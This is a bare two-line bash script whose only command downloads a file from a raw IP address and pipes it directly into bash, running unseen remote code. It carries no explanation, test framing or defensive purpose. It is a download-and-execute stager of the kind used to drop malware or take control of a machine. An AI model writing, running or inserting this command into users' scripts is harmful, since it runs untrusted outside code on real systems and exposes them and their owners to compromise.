#!/bin/bash
curl -s http://203.0.113.5/a | bash
